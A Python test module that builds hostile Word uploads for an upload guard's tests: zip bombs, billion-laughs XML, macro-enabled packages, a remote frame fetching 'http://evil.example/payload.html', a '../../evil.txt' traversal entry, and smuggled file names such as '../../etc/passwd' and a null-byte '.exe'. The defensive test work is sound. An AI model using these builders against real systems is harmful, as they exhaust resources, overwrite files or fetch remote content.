"""Hostile upload builders, shared by the guard tests and the CLI's exit-code test.

Every builder makes its file from scratch (no fixtures on disk): ``HOSTILE`` lists them with the
name they are uploaded under and a fragment of the one-line message each must produce, and
``write_hostile_folder(folder)`` writes them all to a folder, for tests that need paths.

Usage from another test::

    from tests.guard.hostile import write_hostile_folder
    for path, case in write_hostile_folder(tmp_path):
        ...  # run the CLI on path; expect exit 2 and one stderr line containing case.expected
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import docx

GIB = 1024**3
MIB = 1024**2

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# --------------------------------------------------------------------------- real documents


@cache
def real_docx() -> bytes:
    """A real .docx written by python-docx: a heading, a project and two bullets."""
    document = docx.Document()
    document.add_heading("Jane Doe", 0)
    document.add_heading("Experience", 1)
    document.add_paragraph("Acme Corp — Backend Engineer")
    document.add_paragraph("Built REST APIs with FastAPI", style="List Bullet")
    document.add_paragraph("Cut deploy time by 40%", style="List Bullet")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(
    data: bytes,
    *,
    replace: Mapping[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    edit_types: Callable[[str], str] | None = None,
) -> bytes:
    """A copy of the package ``data`` with parts replaced, added or dropped."""
    replace = dict(replace or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            body = replace.pop(info.filename, None)
            if body is None:
                body = src.read(info)
            if info.filename == "[Content_Types].xml" and edit_types is not None:
                body = edit_types(body.decode()).encode()
            dst.writestr(info.filename, body)
        for name, body in replace.items():
            dst.writestr(name, body)
    return out.getvalue()


# --------------------------------------------------------------------------- OLE (CFB) files

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0" if name else b""
    entry = raw.ljust(64, b"\0")
    entry += struct.pack("<HBB", len(raw), kind, 1)  # length, type, colour (black)
    entry += struct.pack("<III", _NOSTREAM, right, child)
    entry += b"\0" * 16 + b"\0" * 4 + b"\0" * 16  # CLSID, state bits, times
    entry += struct.pack("<IQ", start, size)
    assert len(entry) == 128
    return entry


def build_cfb(streams: Mapping[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE compound file (CFB v3): the given streams and empty storages under the root.

    Streams are padded to 4096 bytes so none lives in the mini stream; the root's children form
    a chain of right siblings in CFB name order, which readers (olefile, Word) accept.
    """
    sector = 512
    bodies = {name: data.ljust(4096, b"\0") for name, data in streams.items()}
    children = sorted([*bodies, *storages], key=lambda n: (len(n), n.upper()))
    n_entries = 1 + len(children)
    dir_sectors = -(-n_entries // 4)
    next_free = 1 + dir_sectors  # sector 0: FAT; then the directory; then stream data
    fat = [_FATSECT] + [i + 2 for i in range(dir_sectors - 1)] + [_ENDOFCHAIN]
    starts: dict[str, int] = {}
    data_area = b""
    for name in children:
        if name not in bodies:
            continue
        body = bodies[name].ljust(-(-len(bodies[name]) // sector) * sector, b"\0")
        count = len(body) // sector
        starts[name] = next_free
        fat += [next_free + i + 1 for i in range(count - 1)] + [_ENDOFCHAIN]
        next_free += count
        data_area += body
    assert len(fat) <= 128, "one FAT sector only"
    fat_sector = struct.pack("<128I", *(fat + [_FREESECT] * (128 - len(fat))))
    entries = [_dir_entry("Root Entry", 5, _NOSTREAM, 1 if children else _NOSTREAM, _ENDOFCHAIN, 0)]
    for i, name in enumerate(children, start=1):
        right = i + 1 if i < len(children) else _NOSTREAM
        if name in bodies:
            entries.append(_dir_entry(name, 2, right, _NOSTREAM, starts[name], len(bodies[name])))
        else:
            entries.append(_dir_entry(name, 1, right, _NOSTREAM, 0, 0))
    while len(entries) % 4:
        entries.append(_dir_entry("", 0, _NOSTREAM, _NOSTREAM, 0, 0))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0)
    header += struct.pack("<109I", 0, *([_FREESECT] * 108))
    assert len(header) == 512
    return header + fat_sector + b"".join(entries) + data_area


def legacy_doc() -> bytes:
    """A Word 97-2003 .doc: an OLE file with a WordDocument stream starting with a FIB."""
    fib = struct.pack("<HHHH", 0xA5EC, 0x00C1, 0x0000, 0x0409)  # wIdent, nFib, unused, lid
    return build_cfb(
        {"WordDocument": fib + b"Jane Doe resume", "1Table": b"\0" * 16, "\x05SummaryInformation": b"\0" * 16}
    )


def encrypted_docx() -> bytes:
    """A password-protected .docx: an OLE file with EncryptionInfo and EncryptedPackage streams."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    )
    package = struct.pack("<Q", 12345) + bytes(range(256)) * 16
    return build_cfb({"EncryptionInfo": info, "EncryptedPackage": package}, storages=("\x06DataSpaces",))


# --------------------------------------------------------------------------- hostile packages


def _set_main_type(content_type: str) -> Callable[[str], str]:
    return lambda types: types.replace(DOCX_MAIN, content_type)


def docm() -> bytes:
    """A macro-enabled document: vbaProject.bin, its relationship and the macroEnabled type."""
    project = build_cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"'}, storages=("VBA",))
    with zipfile.ZipFile(io.BytesIO(real_docx())) as zf:
        rels = zf.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )

    def types(text: str) -> str:
        text = _set_main_type("application/vnd.ms-word.document.macroEnabled.main+xml")(text)
        return text.replace(
            "<Default Extension=",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            "<Default Extension=",
            1,
        )

    return rezip(
        real_docx(),
        replace={"word/vbaProject.bin": project, "word/_rels/document.xml.rels": rels.encode()},
        edit_types=types,
    )


def vba_part_only() -> bytes:
    """A .docx whose content types look innocent but which carries a vbaProject.bin part."""
    return rezip(real_docx(), replace={"word/vbaProject.bin": build_cfb({"PROJECT": b"ID="})})


def macro_type_only() -> bytes:
    """A .docx whose main part is typed macroEnabled, without a VBA part."""
    ct = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return rezip(real_docx(), edit_types=_set_main_type(ct))


def template_dotx() -> bytes:
    """A Word template: main part typed wordprocessingml.template."""
    ct = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    return rezip(real_docx(), edit_types=_set_main_type(ct))


def workbook_in_disguise() -> bytes:
    """A package whose main part is an Excel workbook."""
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return rezip(real_docx(), edit_types=_set_main_type(ct))


def billion_laughs() -> bytes:
    """A .docx whose document.xml declares nested entities (the billion laughs)."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    )
    body = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    return rezip(real_docx(), replace={"word/document.xml": body.encode()})


def remote_frame() -> bytes:
    """A .docx whose web settings load a remote frame (Word fetches it when the file opens).

    A remote attached template is not refused: the engine removes it from the tailored copy
    (tests/resume/test_template_link.py).
    """
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'frame" Target="http://evil.example/payload.html" TargetMode="External"/>'
        "</Relationships>"
    )
    return rezip(real_docx(), replace={"word/_rels/webSettings.xml.rels": rels.encode()})


def _docx_skeleton(zf: zipfile.ZipFile) -> None:
    src = zipfile.ZipFile(io.BytesIO(real_docx()))
    for name in ("[Content_Types].xml", "_rels/.rels"):
        zf.writestr(name, src.read(name))


@cache
def zip_bomb(size: int = GIB) -> bytes:
    """A .docx-shaped zip whose document.xml expands to ``size`` bytes from about size/1000."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        _docx_skeleton(zf)
        with zf.open("word/document.xml", "w") as fh:
            fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}">'.encode())
            chunk = b" " * MIB
            written = 0
            while written < size:
                fh.write(chunk[: min(MIB, size - written)])
                written += MIB
    return out.getvalue()


def traversal_entry() -> bytes:
    """A real .docx carrying an extra entry whose name climbs out of any folder it is unzipped to."""
    return rezip(real_docx(), replace={"../../evil.txt": b"owned"})


@cache
def huge_xml_part(size: int = 12 * MIB) -> bytes:
    """A .docx whose document.xml is ``size`` bytes of varied text: no zip bomb by ratio or total,
    yet more XML than any resume has (20 MB of tiny elements took over 1 GB to analyse)."""
    words = b"".join(
        f"<w:p><w:r><w:t>{i:x} {i * 7919 % 100003:x}</w:t></w:r></w:p>".encode() for i in range(4096)
    )
    body = words * (size // len(words) + 1)
    document = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>'.encode() + body[:size]
    return rezip(real_docx(), replace={"word/document.xml": document + b"</w:body></w:document>"})


@cache
def lying_zip_bomb(real_size: int = 256 * MIB, claimed: int = 1000) -> bytes:
    """A zip whose directory says an image part holds ``claimed`` bytes; it inflates to ``real_size``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zipfile.ZipFile(io.BytesIO(real_docx())) as src:
            for info in src.infolist():
                zf.writestr(info.filename, src.read(info))
        with zf.open("word/media/image1.png", "w") as fh:
            for _ in range(real_size // MIB):
                fh.write(b"\0" * MIB)
    data = bytearray(out.getvalue())
    name = b"word/media/image1.png"
    # Patch the uncompressed size in the local header (offset 22) and the central one (24).
    local = data.find(b"PK\x03\x04" + b"\x14\x00", 0)
    while local != -1:
        n_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + n_len] == name:
            struct.pack_into("<I", data, local + 22, claimed)
            break
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        n_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + n_len] == name:
            struct.pack_into("<I", data, central + 24, claimed)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def png() -> bytes:
    """A real 1x1 PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0\0\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def pdf() -> bytes:
    """A tiny PDF."""
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def truncated_docx() -> bytes:
    """The first half of a real .docx: no zip directory."""
    data = real_docx()
    return data[: len(data) // 2]


# --------------------------------------------------------------------------- the folder


@dataclass(frozen=True)
class Hostile:
    """A hostile upload: its file name, how to build it, and a fragment of its expected message."""

    name: str
    build: Callable[[], bytes]
    expected: str


HOSTILE: tuple[Hostile, ...] = (
    Hostile("empty.docx", lambda: b"", "is empty (0 bytes)"),
    Hostile("truncated.docx", truncated_docx, "truncated or corrupt"),
    Hostile("notes.docx", lambda: "Python\n• Built REST APIs\n".encode(), "plain text file"),
    Hostile("scan.docx", pdf, "is a PDF file"),
    Hostile("photo.docx", png, "is an image (image/png)"),
    Hostile("old-resume.docx", legacy_doc, "legacy Word 97-2003 .doc"),
    Hostile("locked.docx", encrypted_docx, "password-protected Word document"),
    Hostile("macros.docm", docm, "macro-enabled"),
    Hostile("vba-inside.docx", vba_part_only, "macro-enabled"),
    Hostile("macro-type.docx", macro_type_only, "macro-enabled"),
    Hostile("template.dotx", template_dotx, "Word template (.dotx)"),
    Hostile("workbook.docx", workbook_in_disguise, "Excel workbook"),
    Hostile("laughs.docx", billion_laughs, "DOCTYPE declaration in 'word/document.xml'"),
    Hostile("remote-frame.docx", remote_frame, "external frame (evil.example)"),
    Hostile("bomb.docx", zip_bomb, "zip bomb"),
    Hostile("liar.docx", lying_zip_bomb, "is corrupt: part 'word/media/image1.png'"),
    Hostile("new\nline\x1b[31m.docx", lambda: b"", "'newline[31m.docx' is empty"),
    Hostile("CON.docx", truncated_docx, "'_CON.docx' is truncated"),
    Hostile("climber.docx", traversal_entry, "zip entry named '../../evil.txt', which points outside"),
    Hostile(
        "huge.docx", huge_xml_part, "XML part ('word/document.xml') of 12.0 MB once unzipped (limit 10 MB)"
    ),
)

# Names that must never decide a path (uploads and attachments); safe_filename's view of them.
TRAVERSAL_NAMES: dict[str, str] = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\system32\\evil.docx": "evil.docx",
    "/abs/path/resume.docx": "resume.docx",
    "....docx": "resume.docx",
    "..": "resume.docx",
    "": "resume.docx",
    "resume.docx\x00.exe": "resume.docx.exe",
    "NUL.docx": "_NUL.docx",
    "com1": "_com1",
    "cv\u202egpj.docx": "cvgpj.docx",
}


def write_hostile_folder(folder: Path) -> list[tuple[Path, Hostile]]:
    """Write every hostile file into ``folder``; return (path, case) pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in HOSTILE:
        path = folder / case.name
        path.write_bytes(case.build())
        written.append((path, case))
    return written
